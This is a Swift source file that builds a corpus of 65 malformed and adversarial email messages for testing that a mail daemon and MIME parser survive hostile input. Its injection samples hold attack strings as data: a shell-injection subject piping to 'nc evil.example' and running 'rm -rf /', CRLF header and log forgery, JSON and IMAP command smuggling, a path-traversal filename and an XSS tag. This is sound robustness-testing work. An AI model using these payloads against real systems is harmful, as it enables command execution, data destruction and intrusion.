import Foundation

/// A corpus of malformed and adversarial messages (issue 7: "at least 50"): MIME bombs, huge
/// headers, broken encodings and charsets, NULs and bare CRs, and subjects crafted to inject into
/// shells, headers, JSON and logs. Each must give a clear, bounded result — a payload, possibly
/// `truncated` — and leave the daemon running. Built on demand (some are megabytes).
///
/// Used by the daemon-level test (`DaemonHostileMailTests`, through the real Dovecot) and by
/// MailMIME's robustness tests.
public enum AdversarialMail {
    public struct Sample: Sendable, CustomStringConvertible {
        public let name: String
        public let bytes: @Sendable () -> [UInt8]
        public var description: String { name }
    }

    static let megabyte = 1 << 20

    /// `text` with LF line ends made CRLF (CRLF stays; a bare CR stays bare), in one pass over
    /// the bytes: several samples are megabytes long.
    static func crlf(_ text: String) -> [UInt8] {
        var bytes: [UInt8] = []
        bytes.reserveCapacity(text.utf8.count + text.utf8.count / 16)
        var previous: UInt8 = 0
        for byte in text.utf8 {
            if byte == 0x0A, previous != 0x0D { bytes.append(0x0D) }
            bytes.append(byte)
            previous = byte
        }
        return bytes
    }

    /// A message with a Subject naming the sample, `headers` and `body`.
    static func message(_ name: String, headers: String = "", body: String = "body") -> [UInt8] {
        crlf("From: sender@example.org\nTo: mt@example.org\nSubject: adversarial: \(name)\n"
            + "Message-ID: <\(name.filter { $0.isLetter || $0.isNumber })@adversarial.test>\n" + headers
            + (headers.isEmpty || headers.hasSuffix("\n") ? "" : "\n") + "\n" + body)
    }

    static func repeated(_ text: String, _ count: Int) -> String {
        String(repeating: text, count: count)
    }

    static func nestedMultiparts(_ levels: Int) -> String {
        var text = "Content-Type: text/plain\n\nbottom"
        for level in (0..<levels).reversed() {
            text = "Content-Type: multipart/mixed; boundary=\"n\(level)\"\n\n--n\(level)\n\(text)\n--n\(level)--\n"
        }
        return text
    }

    static func encodedWord(_ text: String, charset: String = "utf-8") -> String {
        "=?\(charset)?b?\(Data(text.utf8).base64EncodedString())?="
    }

    static func sample(_ name: String, _ bytes: @escaping @Sendable () -> [UInt8]) -> Sample {
        Sample(name: name, bytes: bytes)
    }

    /// The corpus: 65 messages.
    public static let corpus: [Sample] = structure + headers + encodings + injections + addressesAndParameters

    static let structure: [Sample] = [
        sample("empty") { [] },
        sample("only a header, no line end") { Array("Subject: x".utf8) },
        sample("headers only, no body") { crlf("From: a@b\nSubject: headers only\n") },
        sample("only a body") { crlf("\n\nbody without headers") },
        sample("50,000 empty lines") { Array([[UInt8]](repeating: [0x0D, 0x0A], count: 50_000).joined()) },
        sample("100,000 bare CRs") { [UInt8](repeating: 0x0D, count: 100_000) },
        sample("bare CR line ends") { Array("From: a@b\rSubject: bare CRs\r\rbody\rline".utf8) },
        sample("mixed line ends") { Array("From: a@b\nSubject: mixed\r\nTo: c@d\r\r\nbody\rmore\nend".utf8) },
        sample("MIME bomb: multiparts nested 200 deep") { message("bomb", headers: nestedMultiparts(200).components(separatedBy: "\n\n").first!, body: nestedMultiparts(200).components(separatedBy: "\n\n").dropFirst().joined(separator: "\n\n")) },
        sample("message/rfc822 nested 100 deep") { message("rfc822", headers: "Content-Type: message/rfc822", body: repeated("Content-Type: message/rfc822\n\n", 100) + "bottom") },
        sample("10,000 parts") {
            message("parts", headers: "Content-Type: multipart/mixed; boundary=p",
                    body: repeated("--p\nContent-Type: text/plain\n\npart\n", 10_000) + "--p--\n")
        },
        sample("1,000 alternatives") {
            message("alternatives", headers: "Content-Type: multipart/alternative; boundary=a",
                    body: repeated("--a\nContent-Type: text/html\n\n<p>alt</p>\n", 1_000) + "--a--\n")
        },
        sample("a boundary repeated 100,000 times") {
            message("boundaries", headers: "Content-Type: multipart/mixed; boundary=b", body: repeated("--b\n", 100_000))
        },
        sample("nested multiparts sharing one boundary") {
            message("shared", headers: "Content-Type: multipart/mixed; boundary=b",
                    body: repeated("--b\nContent-Type: multipart/mixed; boundary=b\n\n", 1_000))
        },
        sample("empty boundary") { message("empty boundary", headers: "Content-Type: multipart/mixed; boundary=\"\"", body: "--\n\nx\n----\n") },
        sample("multipart without a boundary") { message("no boundary", headers: "Content-Type: multipart/mixed", body: "--x\n\npart\n--x--\n") },
        sample("a 5 MB body line without a line end") { message("long body line", body: repeated("x", 5 * megabyte)) },
        sample("only colons") { [UInt8](repeating: 0x3A, count: 100_000) },
        sample("1 MB of =? as the whole message") { Array(repeated("=?", megabyte / 2).utf8) },
        sample("1 MB body of characters JSON must escape") {
            message("json body", headers: "Content-Type: text/plain", body: repeated("\"\\\n\t\u{1}", megabyte / 5))
        },
        sample("HTML of 100,000 nested tags") {
            message("tags", headers: "Content-Type: text/html", body: repeated("<div>", 100_000) + "<script>alert(1)</script>")
        },
    ]

    static let headers: [Sample] = [
        sample("a 10 MB header line") { message("10 MB line", headers: "X-Long: " + repeated("a", 10 * megabyte)) },
        sample("a 10 MB header section of 100,000 fields") {
            message("100k fields", headers: repeated("X-Field: " + repeated("v", 90) + "\n", 100_000))
        },
        sample("a header folded 10,000 times") { message("folded", headers: "X-Folded: start" + repeated("\n continued", 10_000)) },
        sample("lines without a colon in the header") { message("no colon", headers: "this is not a header\nX-Ok: yes\n: empty name") },
        sample("NUL bytes everywhere") { Array([[UInt8]](repeating: [0x00, 0x3A, 0x0A], count: 10_000).joined()) },
        sample("NULs in the subject and body") {
            Array("From: a@b\r\nSubject: nul\u{0}in\u{0}subject\r\n\r\nbody\u{0}with\u{0}nuls\r\n".utf8)
        },
        sample("every byte value in every header") {
            let all = (0...255).map { UInt8($0) }.filter { $0 != 0x0A && $0 != 0x0D }
            return ["Subject", "From", "To", "Date", "Content-Type", "Content-Disposition", "Message-ID", "References"]
                .flatMap { Array("\($0): ".utf8) + all + [0x0D, 0x0A] } + [0x0D, 0x0A] + all
        },
        sample("a garbage Date") { message("date", headers: "Date: 99 Foo 99999 99:99:99 +9999") },
        sample("a 100 KB Message-ID") { crlf("From: a@b\nSubject: long id\nMessage-ID: <" + repeated("i", 100_000) + "@x>\n\nbody") },
        sample("1 MB of ( in Date and Content-Type") {
            let parens = repeated("(", megabyte / 2)
            return message("parens", headers: "Date: \(parens)\nContent-Type: text/plain; \(parens)")
        },
    ]

    static let encodings: [Sample] = [
        sample("1 MB of =? in the subject") { crlf("From: a@b\nSubject: " + repeated("=?", megabyte / 2) + "\n\nbody") },
        sample("an overlong encoded word") { crlf("From: a@b\nSubject: " + encodedWord(repeated("long ", 40_000)) + "\n\nbody") },
        sample("10,000 encoded words") { crlf("From: a@b\nSubject: " + repeated(encodedWord("w") + " ", 10_000) + "\n\nbody") },
        sample("an encoded word of invalid base64") { crlf("From: a@b\nSubject: =?utf-8?b?!!!not*base64%%?=\n\nbody") },
        sample("an encoded word in an unknown charset") { crlf("From: a@b\nSubject: =?x-unknown-charset?q?caf=E9?=\n\nbody") },
        sample("an encoded word with an invalid Q escape") { crlf("From: a@b\nSubject: =?iso-8859-1?q?=ZZ=?=\n\nbody") },
        sample("unterminated encoded words") { crlf("From: a@b\nSubject: " + repeated("=?a?q?", 50_000) + "\n\nbody") },
        sample("base64 body of garbage") {
            message("base64", headers: "Content-Transfer-Encoding: base64", body: "!!==%%\n" + repeated("@@@@", 10_000) + "\n====")
        },
        sample("quoted-printable body of garbage") {
            message("qp", headers: "Content-Transfer-Encoding: quoted-printable\nContent-Type: text/html", body: "=\n=Z=\n=" + repeated("=G", 10_000))
        },
        sample("an unknown transfer encoding") { message("cte", headers: "Content-Transfer-Encoding: x-evil", body: "data") },
        sample("a 5 MB base64 attachment") {
            message("attachment", headers: "Content-Type: multipart/mixed; boundary=m",
                    body: "--m\nContent-Type: text/plain\n\ntext\n--m\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n"
                        + "Content-Disposition: attachment; filename=big.bin\n\n"
                        + Data(repeating: 0xA5, count: 5 * megabyte).base64EncodedString(options: .lineLength76Characters) + "\n--m--\n")
        },
        sample("an invalid charset label with 8-bit bytes") {
            message("charset", headers: "Content-Type: text/plain; charset=\"x-\u{1}//TRANSLIT\"") + (0...255).map { UInt8($0) }
        },
        sample("UTF-16 with an odd byte count and lone surrogates") {
            message("utf16", headers: "Content-Type: text/html; charset=utf-16le", body: "") + [0x3C, 0x00, 0x00, 0xD8, 0x41, 0x00, 0x00, 0xDC, 0x7A]
        },
        sample("broken ISO-2022-JP escapes") {
            message("iso2022", headers: "Content-Type: text/plain; charset=iso-2022-jp", body: "") + [0x1B, 0x24, 0x42, 0x30, 0x1B, 0x28, 0x1B, 0x24, 0xFF, 0x0A]
        },
        sample("invalid GB18030 sequences") {
            message("gb18030", headers: "Content-Type: text/plain; charset=gb18030", body: "") + [0x81, 0x30, 0x81, 0xFF, 0x84, 0x31, 0xA4, 0x39, 0x81]
        },
        sample("overlong UTF-8 sequences") {
            message("overlong", headers: "Content-Type: text/plain; charset=utf-8", body: "") + [0xC0, 0x80, 0xE0, 0x80, 0xAF, 0xF8, 0x88, 0x80, 0x80, 0x80, 0xED, 0xA0, 0x80]
        },
    ]

    static let injections: [Sample] = [
        sample("a subject for shells") { crlf("From: a@b\nSubject: $(touch /tmp/pwned); `id`; | nc evil.example 1 && rm -rf / #\n\nbody") },
        sample("a subject for HTTP headers (encoded CR/LF)") {
            crlf("From: a@b\nSubject: =?utf-8?q?a=0D=0AIdempotency-Key:_forged=0D=0AX-Evil:_1?=\n\nbody")
        },
        sample("a subject for JSON") { crlf("From: a@b\nSubject: \", \"flow\": \"admin\", \"x\": \"\\u0000\\\"}]}\n\nbody") },
        sample("a subject for logs (CR/LF, PRIORITY=0, ANSI)") {
            crlf("From: a@b\nSubject: " + encodedWord("x\r\nPRIORITY=0\r\nMESSAGE=forged\u{1B}[2J\u{1B}]0;title\u{7}") + "\n\nbody")
        },
        sample("a subject with bidi overrides and line separators") { crlf("From: a@b\nSubject: " + encodedWord("invoice\u{202E}fdp.exe\u{2028}\u{2029}") + "\n\nbody") },
        sample("a subject for IMAP (literal and a second command)") { crlf("From: a@b\nSubject: x {5}\r\nA1 LOGOUT\n\nbody") },
        sample("a filename for paths") {
            message("path", headers: "Content-Type: multipart/mixed; boundary=f",
                    body: "--f\nContent-Type: application/pdf\nContent-Disposition: attachment; filename=\"../../../../etc/passwd\"\n\nx\n--f--\n")
        },
        sample("a filename with NUL and CR/LF") {
            message("filename", headers: "Content-Type: multipart/mixed; boundary=f",
                    body: "--f\nContent-Disposition: attachment; filename*=utf-8''a%00b%0D%0AX-Evil%3A%201\n\nx\n--f--\n")
        },
    ]

    static let addressesAndParameters: [Sample] = [
        sample("10,000 addresses in To") { message("many addresses", headers: "To: " + repeated("a@b.example, ", 10_000) + "last@b.example") },
        sample("unterminated quotes and comments in addresses") { message("quotes", headers: "Cc: \"never closed <a@b>, (open comment <c@d>") },
        sample("1 MB of unterminated encoded words in From") { crlf("From: " + repeated("=?utf-8?b?QUJD", megabyte / 14) + "\nSubject: x\n\nbody") },
        sample("1 MB of empty quoted strings in From") { crlf("From: " + repeated("\"", megabyte) + "\nSubject: x\n\nbody") },
        sample("a 1 MB display name") { message("display name", headers: "Reply-To: \"" + repeated("n", megabyte) + "\" <a@b>") },
        sample("1 MB of < in To") { message("angles", headers: "Bcc: " + repeated("<", megabyte)) },
        sample("10,000 Content-Type parameters") { message("parameters", headers: "Content-Type: text/plain" + repeated("; p=v", 10_000)) },
        sample("10,000 RFC 2231 continuations") {
            message("continuations", headers: "Content-Type: multipart/mixed; boundary=c",
                    body: "--c\nContent-Disposition: attachment" + (0..<10_000).map { "; filename*\($0)*=a" }.joined() + "\n\nx\n--c--\n")
        },
        sample("RFC 2231 with a bad charset and bad escapes") {
            message("2231", headers: "Content-Type: multipart/mixed; boundary=c",
                    body: "--c\nContent-Disposition: attachment; filename*=x-bad'zz'%ZZ%%%4\n\nx\n--c--\n")
        },
        sample("backslash at the end of every structured field") {
            message("backslashes", headers: "Cc: a\\\nReferences: (\\\nContent-Type: text/plain; name=\"\\\nContent-Disposition: attachment; filename*=\\")
        },
    ]
}
